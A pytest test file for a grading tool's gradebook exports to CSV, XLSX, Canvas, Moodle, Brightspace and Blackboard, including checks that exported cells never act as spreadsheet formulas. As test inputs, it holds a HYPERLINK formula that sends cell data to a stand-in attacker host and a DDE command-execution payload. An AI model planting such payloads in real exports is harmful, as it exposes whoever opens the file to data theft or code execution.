"""The grades of a class in the formats of others: each as its documentation, or its own code, reads it."""

from __future__ import annotations

import csv
import io
import re
import zipfile
from datetime import UTC, datetime, timedelta
from pathlib import Path

import pytest
from click.testing import Result as Ended
from hypothesis import given
from hypothesis import strategies as st
from openpyxl import load_workbook
from typer.testing import CliRunner

from grader.cli.main import app
from grader.export.inert_cells import csv_text, inert
from grader.gradebook import deciding
from grader.gradebook.store import gradebook
from tests.gradebook.classes import call_the_roll, hand_in, result, row

FULL, HALF = (2, 3, 5), (2, 0, 2)
DUE = datetime(2026, 11, 30, 23, 0, tzinfo=UTC)
EVIL = '=HYPERLINK("http://evil.example/?"&A1,"click")'


def person(name: str, number: int, **more: str) -> dict[str, str]:
    email = f"{name.split(maxsplit=1)[0].lower()}@x.org"
    return {"name": name, "id": f"00{number}", "email": email, "lms_id": f"{number}", **more}


@pytest.fixture
def course(tmp_path: Path) -> Path:
    """A class of four: on time, late with an override, nothing handed in, and one with the name of a formula."""
    root = tmp_path / "a3"
    for name, earned in (("ada", FULL), ("bob", HALF), ("eve", HALF)):
        hand_in(root, result(name, earned, FULL))
    late = DUE + timedelta(hours=30)
    rows = [
        row("ada", "ada", person=person("Ada Lovelace", 101), submitted_at=DUE, file="lovelaceada_101_9001_hw-2.ipynb"),
        row("bob", "bob", person=person("Bob Boole", 102), submitted_at=late, file="hw.ipynb"),
        row("cy", person=person("Cy Young", 103), absent="handed in a PDF"),
        row("eve", "eve", person=person(EVIL, 104, section="@SUM(1)"), submitted_at=DUE, file="x.ipynb"),
    ]
    rows[0] = rows[0].model_copy(update={"file": "hw-2.ipynb", "given": "lovelaceada_101_9001_hw-2.ipynb"})
    rows[1] = rows[1].model_copy(update={"given": "all_7_8/boolebob_LATE_102_9002_work.zip/my_1_2_hw/hw.ipynb"})
    call_the_roll(root, rows)
    (root / "course.toml").write_text(
        'deadline = 2026-11-30T23:00:00Z\ntotal = 100\n[penalty]\npercent = 10\nper = "day"\n'
    )
    with gradebook(root) as book:
        deciding.override(book, book.rows()[1], "q1.formulas", 1, why="the first one is there", by="Emmy")
        deciding.comment(book, book.rows()[1], "See me & <b>smile</b>", by="Emmy")
    return root


def export(root: Path, *words: str) -> Ended:
    return CliRunner().invoke(app, ["export", words[0], str(root), *words[1:]])


def exported(root: Path, *words: str, status: int = 0) -> bytes:
    """The file that the command wrote."""
    out = root.parent / "out"
    done = export(root, *words, "--out", str(out))
    assert done.exit_code == status, done.output
    return out.read_bytes()


def table(content: bytes, encoding: str = "utf-8", delimiter: str = ",") -> list[list[str]]:
    return list(csv.reader(io.StringIO(content.decode(encoding), newline=""), delimiter=delimiter))


def records(content: bytes, encoding: str = "utf-8") -> list[dict[str, str]]:
    header, *rows = table(content, encoding)
    return [dict(zip(header, cells, strict=True)) for cells in rows]


def test_csv_has_all_that_is_known(course: Path) -> None:
    """Has everybody a row, with grade, status, what was off, each question, and what was decided?"""
    ada, bob, cy, eve = records(exported(course, "csv"), "utf-8-sig")
    assert (ada["student"], ada["grade"], ada["out of"], ada["status"]) == ("ada", "100", "100", "graded")
    assert (ada["q1 RNN cell"], ada["q1 status"], ada["late by"]) == ("50", "answered", "")
    # 5 and 10 of 20 are 75 of 100; 30 hours are two days begun.
    assert (bob["points"], bob["penalty"], bob["grade"], bob["late by"]) == ("75", "15", "60", "1 day 6 hours")
    assert (bob["q1 RNN cell"], bob["decided by the instructor"]) == ("25", "q1.formulas")
    assert (cy["status"], cy["grade"], cy["remark"]) == ("missing", "", "handed in a PDF")
    assert eve["name"] == f"'{EVIL}"


def test_xlsx_is_a_workbook(course: Path, tmp_path: Path) -> None:
    """Are numbers numbers, texts texts and none of them a formula, with a sheet of decisions?"""
    book = load_workbook(io.BytesIO(exported(course, "xlsx")))
    grades = list(book["Grades"].iter_rows(values_only=True))
    first = dict(zip(grades[0], grades[1], strict=True))
    assert (first["student"], first["grade"], first["id"]) == ("ada", 100, "00101")
    kinds = {cell.data_type for sheet in book for cells in sheet.iter_rows() for cell in cells}
    assert "f" not in kinds
    decided = [list(cells)[:6] for cells in book["Decisions"].iter_rows(min_row=2, values_only=True)]
    assert decided == [
        ["bob", "override", "q1.formulas", 1, "the first one is there", "Emmy"],
        ["bob", "comment", None, None, "See me & <b>smile</b>", "Emmy"],
    ]


CANVAS = """Student,ID,SIS User ID,SIS Login ID,Section,Notes,Quiz 1 (55),NLP Assignment 3 (56),Current Score
,,,,,,,Manual Posting,
    Points Possible,,,,,(read only),10,100,(read only)
"Lovelace, Ada",101,00101,ada,Section 1,"a, b",9.5,,95.00
"Boole, Bob",,00102,bob,Section 1,,8,12,80.00
"Young, Cy",103,,cy,Section 1,,EX,3,
"Name, Another",999,,=x,Section 1,,N/A,,
"Student, Test",104000,,,Section 1,,,,
"""


def test_an_export_of_canvas_is_filled_in(course: Path, tmp_path: Path) -> None:
    """Are all its rows, columns and ids as they were but for the grades of this assignment?"""
    given = tmp_path / "canvas.csv"
    given.write_text(CANVAS)
    made = table(exported(course, "canvas", "--from", str(given), "--assignment", "NLP Assignment 3", status=3))
    expected = table(CANVAS.encode())
    expected[3][7], expected[4][7] = "100", "60"
    expected[6][3] = "'=x"
    assert made == expected


def test_an_export_of_canvas_with_semicolons_and_first_names(course: Path, tmp_path: Path) -> None:
    """Are its other forms read as well, and written as they were?"""
    given = tmp_path / "canvas.csv"
    given.write_text(
        "LastName;FirstName;ID;SIS Login ID;Section;NLP (1)\n    Points Possible;;;;;100,00\nLovelace;Ada;7;;S;\n",
        encoding="utf-8-sig",
    )
    made = exported(course, "canvas", "--from", str(given), "--assignment", "nlp (1)", status=3)
    assert table(made, "utf-8-sig", ";")[2] == ["Lovelace", "Ada", "7", "", "S", "100"]
    assert b"\r" not in made


@pytest.mark.parametrize(
    ("text", "title", "said"),
    [
        (CANVAS, "NLP Assignment 4", "did you mean NLP Assignment 3? There are: Notes, Quiz 1, NLP Assignment 3"),
        (CANVAS, "Quiz 1", "put total = 10 in course.toml"),
        (CANVAS, "Current Score", "There are: Notes, Quiz 1, NLP Assignment 3"),
        ("a,b\n1,2\n", "x", "begins with Student and ID"),
        ("", "x", "is empty"),
    ],
)
def test_what_is_no_place_for_the_grades(course: Path, tmp_path: Path, text: str, title: str, said: str) -> None:
    """Is it refused in one line, and nothing written?"""
    given, out = tmp_path / "given.csv", tmp_path / "out"
    given.write_text(text)
    done = export(course, "canvas", "--from", str(given), "--assignment", title, "--out", str(out))
    assert done.exit_code == 2
    assert said in done.output
    assert not out.exists()


def canvas_reads(content: bytes) -> tuple[list[str], dict[str, list[str]]]:
    """The assignments and scores as `GradebookImporter` of Canvas finds them."""
    header, *rows = table(content)
    assert "Student" in header[0]
    assert "ID" in header[1]
    assert re.search(r"SIS\s+User\s+ID", header[2])
    assert re.search(r"SIS\s+Login\s+ID", header[3])
    assert "Section" in header[4]
    assert "Points Possible" in rows[0][0]
    return header[5:], {cells[1]: cells[5:] for cells in rows}


def test_canvas_reads_a_table_of_ours(course: Path) -> None:
    """Has it the columns that Canvas asks for, with an empty cell where there is no grade?"""
    titles, scores = canvas_reads(exported(course, "canvas", "--assignment", "NLP 3"))
    assert titles == ["NLP 3"]
    assert scores == {"": ["100"], "101": ["100"], "102": ["60"], "103": [""], "104": ["70"]}


WORKSHEET = """Identifier,"Full name","Email address",Status,Grade,"Maximum Grade","Grade can be changed",\
"Last modified (submission)","Last modified (grade)","Feedback comments"
"Participant 101","Ada Lovelace",other@x.org,"Submitted for grading",,100.00,Yes,"Monday, 30 November 2026, 11:00 PM",-,
"Participant 901","Someone Else",bob@x.org,"Submitted for grading - 1 day late",,100.00,Yes,"Tuesday",-,
"Participant 103","Cy Young",cy@x.org,"No submission",,100.00,Yes,-,-,"old words"
"""


def moodle_reads(content: bytes) -> dict[str, tuple[str, str]]:
    """Grade and comment by participant, as `assignfeedback_offline_grade_importer` of Moodle reads them."""
    header, *rows = table(content)
    assert {"Identifier", "Grade", "Last modified (grade)"} <= set(header)
    at = [header.index(name) for name in ("Identifier", "Grade", "Feedback comments")]
    return {cells[at[0]][len("Participant ") :]: (cells[at[1]], cells[at[2]]) for cells in rows}


def test_a_worksheet_of_moodle_is_filled_in(course: Path, tmp_path: Path) -> None:
    """Are grade and comment there, and everything else as it was?"""
    given = tmp_path / "worksheet.csv"
    given.write_text(WORKSHEET)
    made = exported(course, "moodle", "--from", str(given), status=3)
    found = moodle_reads(made)
    assert found["101"][0] == "100"
    assert found["103"] == ("", "old words")
    grade, comment = found["901"]
    assert grade == "60"
    assert "1 day 6 hours late: 20 % off: −15" in comment
    assert "See me &amp; &lt;b&gt;smile" in comment
    unchanged = [cells[:4] + cells[5:9] for cells in table(WORKSHEET.encode())]
    assert [cells[:4] + cells[5:9] for cells in table(made)] == unchanged


def test_a_worksheet_of_our_own(course: Path) -> None:
    """Is there one from what the files of Moodle tell?"""
    found = moodle_reads(exported(course, "moodle", "--worksheet"))
    assert {key: grade for key, (grade, _) in found.items()} == {"101": "100", "102": "60", "103": "", "104": "70"}


def test_the_gradebook_of_moodle(course: Path) -> None:
    """Are there columns to find the student by, the grade, and the feedback?"""
    ada, bob, _, _ = records(exported(course, "moodle", "--assignment", "NLP"))
    assert (ada["ID number"], ada["Email address"], ada["Assignment: NLP (Real)"]) == ("00101", "ada@x.org", "100")
    assert "late" in bob["Assignment: NLP (Feedback)"]


BRIGHTSPACE = """OrgDefinedId,Username,Last Name,First Name,NLP 3 Points Grade <Numeric MaxPoints:100 Weight:10>,\
Quiz Points Grade <Numeric MaxPoints:5>,End-of-Line Indicator
#00101,#ada.l,Lovelace,Ada,,4,#
#999,#bob.b,Boole,Bob,1,3,#
#998,#x.y,Young,Cy,,,#
"""


def test_brightspace(course: Path, tmp_path: Path) -> None:
    """Is its export filled in by number, then by name, and is a table of ours what it imports?"""
    given = tmp_path / "brightspace.csv"
    given.write_text(BRIGHTSPACE)
    made = table(exported(course, "brightspace", "--from", str(given), "--assignment", "NLP 3", status=3))
    expected = table(BRIGHTSPACE.encode())
    expected[1][4], expected[2][4] = "100", "60"
    assert made == expected
    header, *rows = table(exported(course, "brightspace", "--assignment", "NLP 3"))
    assert header == ["OrgDefinedId", "Username", "NLP 3 Points Grade", "End-of-Line Indicator"]
    assert rows[:2] == [["#00101", "", "100", "#"], ["#00102", "", "60", "#"]]


BLACKBOARD = (
    '"Last Name"\t"First Name"\t"Username"\t"Student ID"\t"Availability"\t"NLP 3 [Total Pts: 100 Score] |534283"\n'
    '"Lovelace"\t"Ada"\t"al1"\t"00101"\t"Yes"\t""\n"Boole"\t"Bob"\t"bob@x.org"\t""\t"Yes"\t"2.00"\n'
    '"Zuse"\t"Konrad"\t"kz"\t"77"\t"Yes"\t"-1"\n'
)


def test_blackboard(course: Path, tmp_path: Path) -> None:
    """Is a table for working offline filled in, in its own characters and signs, with the number of its column?"""
    given = tmp_path / "gc.xls"
    given.write_bytes(BLACKBOARD.encode("utf-16"))
    made = exported(course, "blackboard", "--from", str(given), "--assignment", "NLP 3", status=3)
    expected = BLACKBOARD.replace('"00101"\t"Yes"\t""', '"00101"\t"Yes"\t"100"').replace("2.00", "60")
    assert made.decode("utf-16") == expected
    own = exported(course, "blackboard", "--assignment", "NLP 3")
    assert table(own)[0] == ["Username", "Student ID", "Name", "NLP 3 [Total Pts: 100 Score]"]
    assert own.startswith(b'"Username","Student ID"')


def test_a_login_finds_a_student(tmp_path: Path) -> None:
    """Is it what Brightspace and Blackboard are told, and what they are asked by?"""
    hand_in(tmp_path / "x", result("a", FULL))
    call_the_roll(tmp_path / "x", [row("a", "a", person={"name": "Kim Lee", "id": "007", "login": "kim7"})])
    words = ["--assignment", "X"]
    assert table(exported(tmp_path / "x", "brightspace", *words))[1] == ["#007", "kim7", "10", "#"]
    assert table(exported(tmp_path / "x", "blackboard", *words))[1] == ["kim7", "007", "Kim Lee", "10"]
    given = tmp_path / "given.csv"
    given.write_text('"Last Name","First Name","Username","X [Total Pts: 10 Score] |1"\n"Other","One","kim7",""\n')
    assert table(exported(tmp_path / "x", "blackboard", *words, "--from", str(given)))[1][3] == "10"


def test_nobody_gets_the_grade_of_another(tmp_path: Path) -> None:
    """Are two of one name left out and named, and is a number stronger than a name?"""
    for name, earned in (("a", FULL), ("b", HALF), ("c", FULL)):
        hand_in(tmp_path / "x", result(name, earned))
    rows = [row("a", "a", person={"name": "Kim Lee"}), row("b", "b", person={"name": "Kim Lee"})]
    rows.append(row("c", "c", person={"name": "Kim Lee", "lms_id": "3", "email": "kim@x.org"}))
    call_the_roll(tmp_path / "x", rows)
    given = tmp_path / "canvas.csv"
    given.write_text('Student,ID,SIS Login ID,Section,X (1)\n"Lee, Kim",1,kim,S,\n"Lee, Kim",3,,S,\n')
    out = tmp_path / "out"
    done = export(tmp_path / "x", "canvas", "--from", str(given), "--assignment", "X", "--out", str(out))
    assert done.exit_code == 3
    assert [line.split()[1] for line in done.output.splitlines()] == ["a", "b"]
    assert [cells[4] for cells in table(out.read_bytes())[1:]] == ["", "10"]


def moodle_finds(name: str) -> tuple[str, str] | None:
    """Participant and file, as `is_valid_filename_for_import` of Moodle finds them in a path."""
    parts = name.split("/")
    while parts:
        info = parts.pop(0).split("_", 4)
        if len(info) >= 4 and info[1].isdigit() and info[2:4] == ["assignsubmission", "file"]:
            return info[1], "/".join([*info[4:5], *parts]).lstrip("/")
    return None


def canvas_finds(name: str) -> tuple[str, str] | None:
    """Student and attachment, as `infer_comment_context_from_filename` of Canvas finds them in a name."""
    digits = [part for part in name.split("_") if re.fullmatch(r"\d+", part)][:2]
    return (digits[0], digits[1]) if len(digits) == 2 else None


def zipped(course: Path, *words: str, status: int) -> dict[str, bytes]:
    with zipfile.ZipFile(io.BytesIO(exported(course, "feedback", *words, status=status))) as made:
        assert made.testzip() is None
        return {name: made.read(name) for name in made.namelist()}


def test_feedback_as_moodle_takes_it(course: Path) -> None:
    """Does each report lie where Moodle looks for that of a participant?"""
    found = zipped(course, "--layout", "moodle", status=0)
    assert sorted(filter(None, map(moodle_finds, found))) == [(each, "report.html") for each in ("101", "102", "104")]
    assert found["Ada Lovelace_101_assignsubmission_file_/report.html"] == (course / "ada" / "report.html").read_bytes()
    assert not any(".." in name or name.startswith("/") or "\\" in name for name in found)


def test_feedback_as_canvas_takes_it(course: Path) -> None:
    """Is each report called after the file handed in, and is it said whose has another name?"""
    found = zipped(course, "--layout", "canvas", status=3)
    assert sorted(filter(None, map(canvas_finds, found))) == [("101", "9001"), ("102", "9002")]
    assert set(found) == {"lovelaceada_101_9001_report.html", "boolebob_LATE_102_9002_report.html"}


def test_feedback_in_folders(course: Path) -> None:
    """Is there a folder for each student, where no LMS is known?"""
    assert set(zipped(course, status=0)) == {"ada/report.html", "bob/report.html", "eve/report.html"}


def test_feedback_of_many(tmp_path: Path) -> None:
    """Are all reports whole in a zip of more than are read at once, in the layout of their LMS, the same every time?"""
    rows = [row(f"s{at}", f"s{at}", person={"name": f"S {at}", "lms_id": str(at)}) for at in range(60)]
    call_the_roll(tmp_path / "a", rows, lms="moodle")
    for each in rows[1:]:
        (tmp_path / "a" / each.key).mkdir()
        (tmp_path / "a" / each.key / "report.html").write_text(f"<p>{each.key}</p>" * 5_000)
    first = exported(tmp_path / "a", "feedback", status=3)
    assert first == exported(tmp_path / "a", "feedback", status=3)
    with zipfile.ZipFile(io.BytesIO(first)) as made:
        assert made.testzip() is None
        found = {name: made.read(name).decode() for name in made.namelist()}
    assert list(found.values()) == [f"<p>s{at}</p>" * 5_000 for at in range(1, 60)]
    assert moodle_finds(list(found)[-1]) == ("59", "report.html")


def test_reports_for_the_instructor_are_kept_from_students(course: Path) -> None:
    """Is nothing packed where a report says what a person should look at?"""
    page = course / "bob" / "report.html"
    page.write_text(page.read_text().replace('"audience" content="student"', '"audience" content="instructor"'))
    done = export(course, "feedback", "--out", str(course.parent / "out"))
    assert done.exit_code == 2
    assert "made for the instructor" in done.output
    assert not (course.parent / "out").exists()


STARTS = re.compile(r"[\s'\"]*[=+\-@＝＋－＠﹢﹣﹦﹫|%−]")


NUMBER = re.compile(r"[+-]*\d*\.?\d*")


@given(
    text=st.text(st.characters(codec="utf-8"), max_size=60)
    | st.from_regex(STARTS)
    | st.text(";,\t\n =+-@1a'\"|", max_size=20)
)
def test_no_cell_is_a_formula(text: str) -> None:
    """Is no text one that a spreadsheet would compute, with or without what stands before it?"""
    (cells,) = csv.reader(io.StringIO(csv_text([[text, "x"]]), newline=""))
    shown = cells[0]
    harmless = shown.startswith("'") or not STARTS.match(shown) or shown.strip() == "-"
    assert harmless or float(shown) is not None
    for delimiter in ",;\t":
        for line in csv_text([["x", text]]).splitlines():
            for cell in line.split(delimiter):
                bare = cell.strip().strip("\"'").strip()
                assert not STARTS.match(cell) or "'" in cell or NUMBER.fullmatch(bare) or bare == "-"
    assert inert(inert(text)) == inert(text)


@pytest.mark.parametrize(
    ("text", "shown"),
    [
        ("=1+1", "'=1+1"), ("@SUM(A1)", "'@SUM(A1)"), ("+cmd|' /C calc'!A0", "'+cmd|' /C calc'!A0"), ("\t=1", "'\t'=1"),
        ("-2+3", "'-2+3"), ("'=1", "'=1"), ("＝1", "'＝1"), ("-12.5", "-12.5"), ("-", "-"), ("a=b", "a=b"),
        ("", ""), ('"=1"', "'\"=1\""), ("x;=1+1;y", "x;'=1+1;y"), ("x,\t@A1", "x,\t'@A1"), ("a; -5; b", "a; -5; b"),
        ("not graded: a.py, b.py", "not graded: a.py, b.py"), ("x;'=1", "x;'=1"), ("a;;＝1", "a;;'＝1"),
    ],
)  # fmt: skip
def test_cells(text: str, shown: str) -> None:
    """Is what would be a formula not one, and all else as it was?"""
    assert inert(text) == shown


def test_an_empty_class(tmp_path: Path) -> None:
    """Is a class in which nobody handed in anything exported, too?"""
    call_the_roll(tmp_path / "a", [row("cy")])
    for words in (["csv"], ["xlsx"], ["canvas"], ["moodle"], ["feedback"]):
        assert exported(tmp_path / "a", *words, status=3 if words == ["moodle"] else 0)


def test_a_result_that_cannot_be_read_is_no_zero(course: Path) -> None:
    """Does who handed in get no grade, instead of that for nothing, and is it said, with a status of its own?"""
    settings = course / "course.toml"
    settings.write_text(f'missing = "zero"\n{settings.read_text()}')
    (course / "gradebook.db").unlink()
    (course / "eve" / "result.json").write_text("{")
    done = export(course, "csv", "--out", str(course.parent / "g.csv"))
    assert done.exit_code == 3
    assert "result.json: not JSON" in done.output
    rows = {row["student"]: row for row in csv.DictReader((course.parent / "g.csv").open(encoding="utf-8-sig"))}
    assert (rows["cy"]["status"], rows["cy"]["grade"]) == ("missing", "0")
    assert (rows["eve"]["status"], rows["eve"]["grade"]) == ("unread", "")
    assert "could be read" in rows["eve"]["remark"]


def test_no_class(tmp_path: Path) -> None:
    """Is a folder without results refused?"""
    done = export(tmp_path, "csv", "--out", str(tmp_path / "out.csv"))
    assert done.exit_code == 2
    assert "no results" in done.output
    assert list(tmp_path.iterdir()) == []
